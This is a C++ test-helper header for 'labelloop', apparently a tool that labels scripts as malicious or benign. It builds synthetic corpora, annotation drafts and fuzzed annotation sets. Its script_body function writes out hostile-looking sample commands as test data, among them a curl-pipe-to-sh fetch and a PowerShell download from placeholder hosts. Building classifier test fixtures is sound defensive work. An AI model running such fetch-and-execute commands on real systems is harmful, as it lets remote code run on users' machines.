// Copyright 2026 The labelloop Authors
// SPDX-License-Identifier: Apache-2.0

// Shared builders for tests: synthetic SHAs, corpora, drafts and scratch
// directories.

#pragma once

#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <random>
#include <string>
#include <vector>

#include "labelloop/labelloop.hpp"

namespace labelloop::testing {

/// Deterministic 64-hex-digit identifier derived from `key`.
inline std::string sha_of(std::string_view key) {
  std::string out;
  std::uint64_t h = util::Fnv1a().add(key).digest();
  for (int i = 0; i < 4; ++i) {
    h = util::splitmix64(h + static_cast<std::uint64_t>(i));
    out += util::to_hex(h);
  }
  return out;
}

inline std::string sha_of(std::size_t n) { return sha_of("record-" + std::to_string(n)); }

/// Scratch directory removed on destruction.
class TempDir {
 public:
  explicit TempDir(const std::string& prefix = "labelloop-test") {
    std::string tmpl = (std::filesystem::temp_directory_path() / (prefix + "-XXXXXX")).string();
    if (::mkdtemp(tmpl.data()) == nullptr) throw std::runtime_error("mkdtemp failed");
    path_ = tmpl;
  }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  ~TempDir() {
    std::error_code ec;
    std::filesystem::remove_all(path_, ec);
  }
  const std::filesystem::path& path() const noexcept { return path_; }
  std::filesystem::path operator/(const std::string& name) const { return path_ / name; }

 private:
  std::filesystem::path path_;
};

inline ScriptRecord make_record(std::string sha, Language lang, bool malicious, Provenance prov,
                                std::optional<std::string> content = "echo hello",
                                std::optional<std::string> summary = std::nullopt) {
  ScriptRecord r;
  r.sha256 = std::move(sha);
  r.content = std::move(content);
  r.language = lang;
  r.malicious = malicious;
  r.summary = std::move(summary);
  r.provenance = prov;
  if (prov == Provenance::pseudo) r.iteration = 1;
  if ((prov == Provenance::seed || prov == Provenance::test) && !r.summary)
    r.summary = std::string(malicious ? "Malicious" : "Benign") + " script.";
  return r;
}

inline std::string script_body(Language lang, std::size_t n) {
  switch (lang) {
    case Language::sh: return "#!/bin/sh\ncurl -s http://host" + std::to_string(n) + "/x | sh\n";
    case Language::bat: return "@echo off\nreg add HKCU\\Software\\k" + std::to_string(n) + "\n";
    case Language::js: return "var s = WScript.CreateObject('WScript.Shell'); s.Run('cmd " + std::to_string(n) + "');\n";
    case Language::ps: return "Invoke-WebRequest -Uri http://h/" + std::to_string(n) + " -OutFile a.ps1\n";
    case Language::py: return "import os\nos.system('id " + std::to_string(n) + "')\n";
  }
  return "";
}

/// Unlabelled corpus of `n` records with content, round-robin languages.
inline Dataset synthetic_corpus(std::size_t n, const std::string& tag = "u", Provenance prov = Provenance::train) {
  std::vector<ScriptRecord> records;
  for (std::size_t i = 0; i < n; ++i) {
    const Language lang = kLanguages[i % kLanguages.size()];
    records.push_back(make_record(sha_of(tag + std::to_string(i)), lang, (i * 7 + 3) % 5 < 2, prov,
                                  script_body(lang, i)));
  }
  return Dataset(std::move(records), tag);
}

inline Dataset seed_fixture(std::size_t n) { return synthetic_corpus(n, "seed", Provenance::seed); }

inline AnnotationDraft make_draft(std::string sha, double t, bool malicious, std::optional<double> p = 0.99,
                                  std::optional<std::string> summary = std::nullopt,
                                  Language lang = Language::sh) {
  AnnotationDraft d;
  d.sha256 = std::move(sha);
  d.temperature = t;
  d.malicious = malicious;
  d.language = lang;
  d.summary = summary ? *summary : std::string(malicious ? "Malicious" : "Benign") + " script.";
  d.label_probability = p;
  d.language_probability = 0.99;
  return d;
}

inline ParseFailure make_failure(std::string sha, double t, ParseDefect defect) {
  return ParseFailure{std::move(sha), t, defect, ""};
}

/// Randomised per-temperature annotation sets with every defect class:
/// parse failures, missing temperatures, label disagreement, probabilities
/// on both sides of (and exactly at) alpha, and summaries worded against
/// their label or unparseable by the mock judge.
inline AnnotationSets fuzz_sets(std::uint64_t seed, std::size_t max_records, const std::vector<double>& temps,
                                double alpha) {
  std::mt19937_64 rng(seed);
  std::uniform_int_distribution<std::size_t> size_dist(0, max_records);
  std::uniform_real_distribution<double> unit(0.0, 1.0);
  const std::size_t n = size_dist(rng);
  AnnotationSets sets;
  for (double t : temps) sets[t].temperature = t;
  for (std::size_t i = 0; i < n; ++i) {
    const std::string sha = sha_of("fuzz-" + std::to_string(seed) + "-" + std::to_string(i));
    const bool label = unit(rng) < 0.5;
    for (double t : temps) {
      const double roll = unit(rng);
      if (roll < 0.04) continue;  // never annotated at this temperature
      if (roll < 0.10) {
        const auto defect = static_cast<ParseDefect>(static_cast<int>(unit(rng) * 3) % 3);
        sets[t].add(make_failure(sha, t, defect));
        continue;
      }
      const bool flipped = unit(rng) < 0.08;
      const double pr = unit(rng);
      double p;
      if (pr < 0.05) p = alpha;
      else if (pr < 0.08) p = std::max(0.0, alpha - 1e-9);
      else p = std::min(1.0, 0.75 + 0.25 * unit(rng));
      const double wording = unit(rng);
      const bool lbl = label != flipped;
      std::string summary = std::string(lbl ? "Malicious" : "Benign") + " behaviour " + std::to_string(i);
      if (wording < 0.05) summary = std::string(lbl ? "Benign" : "Malicious") + " wording " + std::to_string(i);
      else if (wording < 0.08) summary = "Unclear wording " + std::to_string(i);
      AnnotationDraft d = make_draft(sha, t, lbl, p, summary, kLanguages[i % 5]);
      d.language_probability = std::min(1.0, 0.7 + 0.3 * unit(rng));
      sets[t].add(std::move(d));
    }
  }
  return sets;
}

inline PromptLibrary test_prompts() { return PromptLibrary(LABELLOOP_PROMPTS_DIR); }

}  // namespace labelloop::testing
